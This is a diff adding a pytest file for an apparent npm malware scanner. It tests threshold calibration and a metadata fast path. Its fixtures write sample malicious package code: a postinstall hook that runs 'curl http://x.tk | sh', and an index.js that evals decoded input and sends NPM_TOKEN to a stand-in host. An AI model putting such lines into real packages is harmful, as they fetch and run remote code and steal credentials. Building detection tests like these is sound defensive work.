@@ -0,0 +1,106 @@
+#!/usr/bin/env python3
+"""
+Cascade: threshold calibration and the scanner's metadata fast path
+"""
+
+import sys
+import json
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+import cascade
+import scanner_predictor
+from cascade import calibrate, train_stage_one
+from dataset_builder import build_dataset
+from model_artifact import MANIFEST
+from scanner_predictor import build_npm_row, predict_rows
+
+DATASET = ROOT / "data" / "security_packages_dataset.csv"
+
+
+def test_calibration_keeps_recall():
+    proba = np.array([0.05, 0.10, 0.20, 0.30, 0.15, 0.40, 0.80, 0.90])
+    y = np.array([0, 0, 0, 0, 1, 1, 1, 1])
+    c = calibrate(proba, y, min_recall=1.0)
+    # Highest benign probability below every malicious one
+    assert c["safe_threshold"] == 0.10
+    assert c["escalation_recall"] == 1.0 and c["benign_fast_path_rate"] == 0.5
+    # One malicious row in four may slip through at 75% recall
+    assert calibrate(proba, y, min_recall=0.75)["safe_threshold"] == 0.30
+    assert calibrate(np.array([0.5, 0.1]), np.array([0, 1]))["safe_threshold"] is None
+
+
+def _npm_package(d: Path, scripts=None, **meta):
+    d.mkdir(parents=True)
+    (d / "package.json").write_text(json.dumps({"name": d.name, "version": "2.0.1", "scripts": scripts or {}, **meta}))
+    (d / "index.js").write_text("require('child_process').exec('curl http://x.tk | sh')")
+
+
+@pytest.fixture
+def stage_one(tmp_path, monkeypatch):
+    pytest.importorskip("sklearn")
+    monkeypatch.setattr(scanner_predictor, "FEATURE_CACHE_DIR", tmp_path / "features")
+    monkeypatch.setattr(cascade, "_stage_one", {})
+    for i in range(4):
+        _npm_package(tmp_path / "corpus" / "mal" / f"m{i}", {"postinstall": "node index.js"})
+        _npm_package(tmp_path / "corpus" / "ben" / f"b{i}", dependencies={"a": "1", "b": "2"})
+    build_dataset([(tmp_path / "corpus" / "mal", 1), (tmp_path / "corpus" / "ben", 0)], tmp_path / "dataset", workers=1)
+    train_stage_one(tmp_path / "dataset", tmp_path / "cascade", folds=3)
+    # Every package without install scripts is confidently safe
+    manifest = tmp_path / "cascade" / MANIFEST
+    data = json.loads(manifest.read_text())
+    data["cascade"]["safe_threshold"] = 1.0
+    manifest.write_text(json.dumps(data))
+    return cascade.load_stage_one(tmp_path / "cascade")
+
+
+def test_fast_path_skips_code_and_install_scripts_escalate(stage_one, tmp_path):
+    _npm_package(tmp_path / "quiet")
+    _npm_package(tmp_path / "hooked", {"postinstall": "node index.js"})
+
+    quiet = build_npm_row("quiet", tmp_path / "quiet")
+    assert quiet["scan_depth"] == "metadata" and "blob_stats" not in quiet
+    hooked = build_npm_row("hooked", tmp_path / "hooked")
+    assert hooked["scan_depth"] != "metadata" and hooked["blob_stats"]["files"] > 0
+    # The dataset builder always wants the full row
+    assert "blob_stats" in build_npm_row("quiet", tmp_path / "quiet", cascade=False)
+
+    results = {r["package_name"]: r for r in predict_rows([quiet, hooked])}
+    assert results["quiet"]["label"] == "SAFE"
+    assert results["quiet"]["malicious_probability"] == quiet["cascade_probability"]
+
+
+def test_stage_one_needs_dataset_builder_output(stage_one, tmp_path, monkeypatch):
+    assert stage_one is not None
+    with pytest.raises(ValueError):
+        train_stage_one(DATASET, tmp_path / "from_csv")
+
+    # An artifact calibrated on a CSV never enables the fast path
+    manifest = tmp_path / "cascade" / MANIFEST
+    data = json.loads(manifest.read_text())
+    data["dataset"] = {"rows": 500, "bytes": 92178, "sha256": "0" * 64}
+    manifest.write_text(json.dumps(data))
+    monkeypatch.setattr(cascade, "_stage_one", {})
+    assert cascade.load_stage_one(tmp_path / "cascade") is None
+
+
+def test_shipped_default_never_fast_paths_code(tmp_path, monkeypatch):
+    monkeypatch.setattr(scanner_predictor, "FEATURE_CACHE_DIR", tmp_path / "features")
+    monkeypatch.setattr(cascade, "_stage_one", {})
+    monkeypatch.setattr(cascade, "CASCADE_PATH", ROOT / "data" / "cascade_model")
+    # Well documented, many dependencies, no install scripts: the payload is only in the code
+    evil = tmp_path / "node_modules" / "evil"
+    _npm_package(evil, dependencies={f"dep{i}": "^1.0.0" for i in range(10)})
+    (evil / "index.js").write_text("exec(atob(p)); eval(x); fetch('http://x.tk/' + process.env.NPM_TOKEN)")
+    for name in ("README.md", "LICENSE"):
+        (evil / name).write_text("MIT")
+    (evil / "test").mkdir()
+
+    assert cascade.load_stage_one() is None
+    row = build_npm_row("evil", evil)
+    assert row["scan_depth"] != "metadata" and row["eval_calls"] > 0